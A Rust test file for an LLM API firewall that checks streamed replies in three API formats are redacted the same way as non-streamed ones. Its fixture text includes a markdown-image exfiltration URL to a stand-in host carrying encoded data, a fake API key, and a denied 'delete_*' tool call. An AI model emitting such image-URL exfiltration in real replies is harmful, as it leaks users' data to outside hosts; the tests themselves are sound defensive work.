//! Streamed answers: the client's assembled text equals the JSON path's redaction in every form,
//! for any split of the text into deltas and of the bytes into chunks.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::sync::Arc;

use proptest::prelude::*;
use serde_json::{json, Value};

use crate::config::Config;
use crate::flow::{
    BodyProgress, Clock, Exchange, RequestDecision, RequestHeadersAction, ResponseHeadersAction,
    StreamStep,
};
use crate::verdict::Action;
use crate::wire::sse::Framer;
use crate::wire::Format;

const CLOCK: Clock = Clock {
    now_ms: 1_700_000_000_000,
    context_id: 11,
};

const TEXT: &str = "Summary follows. ![s](https://evil.test/p.png?d=c2VjcmV0) and the key \
                    sk-proj-abcdefghijklmnopqrstuvwxyz0123456789 then [1]: no. Done ok.";

fn config() -> Arc<Config> {
    Arc::new(
        Config::from_json(br#"{"tools":{"deny":["delete_*"]},"detect":{"exfil_allow_hosts":["docs.example.com"]}}"#)
            .unwrap(),
    )
}

fn path(format: Format) -> &'static str {
    match format {
        Format::OpenAiChat => "/v1/chat/completions",
        Format::OpenAiResponses => "/v1/responses",
        _ => "/v1/messages",
    }
}

fn streaming_exchange(format: Format) -> Exchange {
    let mut ex = Exchange::new(config());
    let h = |pairs: &[(&str, &str)]| -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    };
    assert!(matches!(
        ex.on_request_headers(&h(&[(":path", path(format))])),
        RequestHeadersAction::Inspect { .. }
    ));
    assert_eq!(ex.request_body_progress(1, true), BodyProgress::Ready);
    let req = json!({"model": "m", "max_tokens": 5, "input": "hi",
                     "messages": [{"role": "user", "content": "hi"}], "stream": true});
    assert_eq!(
        ex.on_request_body(req.to_string().as_bytes(), CLOCK),
        RequestDecision::Continue
    );
    let resp = h(&[(":status", "200"), ("content-type", "text/event-stream")]);
    assert_eq!(ex.on_response_headers(&resp), ResponseHeadersAction::Stream);
    ex
}

fn sse(name: Option<&str>, data: &Value) -> String {
    let mut s = String::new();
    if let Some(n) = name {
        s.push_str(&format!("event: {n}\n"));
    }
    s.push_str(&format!("data: {data}\n\n"));
    s
}

/// An upstream stream of `format` whose text arrives as `deltas`, optionally followed by a call.
fn upstream(format: Format, deltas: &[&str], call: Option<&str>) -> String {
    let text: String = deltas.concat();
    let mut out = String::new();
    match format {
        Format::OpenAiChat => {
            let chunk = |delta: Value, finish: Value| {
                sse(
                    None,
                    &json!({"id": "c", "object": "chat.completion.chunk", "model": "m",
                    "choices": [{"index": 0, "delta": delta, "logprobs": null, "finish_reason": finish}]}),
                )
            };
            out.push_str(&chunk(
                json!({"role": "assistant", "content": ""}),
                Value::Null,
            ));
            for d in deltas {
                out.push_str(&chunk(json!({"content": d}), Value::Null));
            }
            if let Some(name) = call {
                out.push_str(&chunk(
                    json!({"tool_calls": [{"index": 0, "id": "call_1", "type": "function",
                    "function": {"name": name, "arguments": "{}"}}]}),
                    Value::Null,
                ));
            }
            let finish = if call.is_some() { "tool_calls" } else { "stop" };
            out.push_str(&chunk(json!({}), json!(finish)));
            out.push_str("data: [DONE]\n\n");
        }
        Format::OpenAiResponses => {
            let mut seq = 0;
            let mut ev = |v: Value| {
                let mut v = v;
                v["sequence_number"] = json!(seq);
                seq += 1;
                let name = v["type"].as_str().unwrap_or("").to_owned();
                sse(Some(&name), &v)
            };
            let item = |content: Value, status: &str| json!({"type": "message", "id": "msg_1", "status": status, "role": "assistant", "content": content});
            let part = |t: &str| json!({"type": "output_text", "text": t, "annotations": []});
            let resp = |output: Value, status: &str| json!({"id": "resp_1", "object": "response", "status": status, "output": output});
            out.push_str(&ev(
                json!({"type": "response.created", "response": resp(json!([]), "in_progress")}),
            ));
            out.push_str(&ev(json!({"type": "response.output_item.added", "output_index": 0, "item": item(json!([]), "in_progress")})));
            out.push_str(&ev(json!({"type": "response.content_part.added", "item_id": "msg_1", "output_index": 0, "content_index": 0, "part": part("")})));
            for d in deltas {
                out.push_str(&ev(json!({"type": "response.output_text.delta", "item_id": "msg_1", "output_index": 0, "content_index": 0, "delta": d, "logprobs": []})));
            }
            out.push_str(&ev(json!({"type": "response.output_text.done", "item_id": "msg_1", "output_index": 0, "content_index": 0, "text": text, "logprobs": []})));
            out.push_str(&ev(json!({"type": "response.content_part.done", "item_id": "msg_1", "output_index": 0, "content_index": 0, "part": part(&text)})));
            let done = item(json!([part(&text)]), "completed");
            out.push_str(&ev(
                json!({"type": "response.output_item.done", "output_index": 0, "item": done}),
            ));
            let mut output = vec![done];
            if let Some(name) = call {
                let fc = json!({"type": "function_call", "id": "fc_1", "call_id": "call_1", "name": name, "arguments": "{}", "status": "completed"});
                out.push_str(&ev(
                    json!({"type": "response.output_item.added", "output_index": 1, "item": fc}),
                ));
                out.push_str(&ev(json!({"type": "response.function_call_arguments.done", "item_id": "fc_1", "output_index": 1, "arguments": "{}"})));
                out.push_str(&ev(
                    json!({"type": "response.output_item.done", "output_index": 1, "item": fc}),
                ));
                output.push(fc);
            }
            out.push_str(&ev(
                json!({"type": "response.completed", "response": resp(json!(output), "completed")}),
            ));
        }
        _ => {
            let ev = |v: Value| sse(v["type"].as_str(), &v);
            out.push_str(&ev(json!({"type": "message_start", "message": {"id": "m", "type": "message", "role": "assistant", "content": [], "stop_reason": null}})));
            out.push_str(&ev(json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}})));
            for d in deltas {
                out.push_str(&ev(json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": d}})));
            }
            out.push_str(&ev(json!({"type": "content_block_stop", "index": 0})));
            if let Some(name) = call {
                out.push_str(&ev(json!({"type": "content_block_start", "index": 1, "content_block": {"type": "tool_use", "id": "tu_1", "name": name, "input": {}}})));
                out.push_str(&ev(json!({"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": "{}"}})));
                out.push_str(&ev(json!({"type": "content_block_stop", "index": 1})));
            }
            let stop = if call.is_some() {
                "tool_use"
            } else {
                "end_turn"
            };
            out.push_str(&ev(
                json!({"type": "message_delta", "delta": {"stop_reason": stop}}),
            ));
            out.push_str(&ev(json!({"type": "message_stop"})));
        }
    }
    out
}

/// Feeds `body` in chunks cut at `cuts`; returns every chunk sent on and the final outcome's
/// action.
fn run(format: Format, body: &str, cuts: &[usize]) -> (Vec<Vec<u8>>, Action, usize) {
    let mut ex = streaming_exchange(format);
    let bytes = body.as_bytes();
    let mut points: Vec<usize> = cuts
        .iter()
        .map(|c| c % bytes.len())
        .filter(|&c| c > 0)
        .collect();
    points.sort_unstable();
    points.dedup();
    points.push(bytes.len());
    let mut sent = Vec::new();
    let mut at = 0;
    for (n, &p) in points.iter().enumerate() {
        let last = n + 1 == points.len();
        match ex.on_response_chunk(&bytes[at..p], last, CLOCK) {
            StreamStep::Chunk(b) => sent.push(b),
            StreamStep::Final(out) => {
                sent.push(out.body.clone().unwrap_or_default());
                return (sent, out.action, out.redacted);
            }
            StreamStep::Callout(_) => panic!("no callout configured"),
        }
        at = p;
    }
    panic!("stream did not end")
}

/// What an SDK assembles from the events: (delta text, every full text the stream repeats).
fn assemble(format: Format, sent: &[Vec<u8>]) -> (String, Vec<String>) {
    let mut framer = Framer::new(1 << 20);
    let mut events = Vec::new();
    for chunk in sent {
        events.extend(framer.feed(chunk).unwrap());
    }
    let mut text = String::new();
    let mut full = Vec::new();
    for e in events.iter().filter(|e| e.data.starts_with('{')) {
        let v: Value = serde_json::from_str(&e.data).unwrap();
        let s = |p: &str| v.pointer(p).and_then(Value::as_str).map(str::to_owned);
        match format {
            Format::OpenAiChat => text.push_str(&s("/choices/0/delta/content").unwrap_or_default()),
            Format::OpenAiResponses => match v["type"].as_str().unwrap_or("") {
                "response.output_text.delta" => text.push_str(&s("/delta").unwrap()),
                "response.output_text.done" => full.push(s("/text").unwrap()),
                "response.content_part.done" => full.push(s("/part/text").unwrap()),
                "response.output_item.done" => full.extend(s("/item/content/0/text")),
                "response.completed" => full.push(s("/response/output/0/content/0/text").unwrap()),
                _ => {}
            },
            _ => match v["type"].as_str().unwrap_or("") {
                "content_block_start" => {
                    text.push_str(&s("/content_block/text").unwrap_or_default())
                }
                "content_block_delta" => text.push_str(&s("/delta/text").unwrap_or_default()),
                _ => {}
            },
        }
    }
    (text, full)
}

fn expected() -> String {
    config().detect.redact_reply(TEXT).0
}

const FORMATS: [Format; 3] = [
    Format::OpenAiChat,
    Format::OpenAiResponses,
    Format::Anthropic,
];

#[test]
fn every_form_of_the_text_is_redacted_alike() {
    let want = expected();
    assert!(want.contains("[llmfw:redacted-url]") && want.contains("[llmfw:redacted-secret]"));
    let deltas: Vec<String> = TEXT
        .chars()
        .collect::<Vec<_>>()
        .chunks(3)
        .map(|c| c.iter().collect())
        .collect();
    let deltas: Vec<&str> = deltas.iter().map(String::as_str).collect();
    for format in FORMATS {
        let body = upstream(format, &deltas, None);
        let (sent, action, redacted) = run(format, &body, &[17, 400, 401, 1000]);
        let (text, full) = assemble(format, &sent);
        assert_eq!(text, want, "{format:?}");
        for f in &full {
            assert_eq!(f, &want, "{format:?}");
        }
        if format == Format::OpenAiResponses {
            assert_eq!(full.len(), 4);
        }
        assert_eq!(action, Action::Warn, "{format:?}");
        assert_eq!(redacted, 2, "{format:?}");
        let all: Vec<u8> = sent.concat();
        let all = String::from_utf8_lossy(&all);
        assert!(
            !all.contains("evil.test") && !all.contains("sk-proj"),
            "{format:?}: {all}"
        );
        assert!(all.contains("response text redacted"), "{format:?}");
    }
}

#[test]
fn text_next_to_a_refused_call_is_redacted_too() {
    let want = expected();
    for format in FORMATS {
        let body = upstream(format, &[&TEXT[..40], &TEXT[40..]], Some("delete_db"));
        let (sent, action, _) = run(format, &body, &[]);
        assert_eq!(action, Action::Block, "{format:?}");
        let (text, _) = assemble(format, &sent);
        assert!(text.starts_with(&want), "{format:?}: {text}");
        let all = String::from_utf8_lossy(&sent.concat()).into_owned();
        assert!(!all.contains("evil.test"), "{format:?}");
    }
}

#[test]
fn a_clean_stream_keeps_its_text() {
    let text = "Plain words only, nothing to see here. ".repeat(20);
    for format in FORMATS {
        let body = upstream(format, &[&text[..100], &text[100..]], None);
        let (sent, action, redacted) = run(format, &body, &[50, 333]);
        assert_eq!(action, Action::Allow);
        assert_eq!(redacted, 0);
        let (got, _) = assemble(format, &sent);
        assert_eq!(got, text, "{format:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    /// Random delta splits and random chunk cuts: the assembled text is the JSON path's.
    #[test]
    fn any_delta_split_assembles_the_redacted_text(
        splits in proptest::collection::vec(0..TEXT.len(), 0..20),
        cuts in proptest::collection::vec(any::<usize>(), 0..12),
        f in 0..3usize,
    ) {
        let format = FORMATS[f];
        let mut points: Vec<usize> = splits.into_iter().filter(|&s| TEXT.is_char_boundary(s) && s > 0).collect();
        points.sort_unstable();
        points.dedup();
        points.push(TEXT.len());
        let mut deltas = Vec::new();
        let mut at = 0;
        for p in points {
            deltas.push(&TEXT[at..p]);
            at = p;
        }
        let body = upstream(format, &deltas, None);
        let (sent, _, _) = run(format, &body, &cuts);
        let (text, full) = assemble(format, &sent);
        let want = expected();
        prop_assert_eq!(&text, &want);
        for f in full {
            prop_assert_eq!(&f, &want);
        }
    }
}
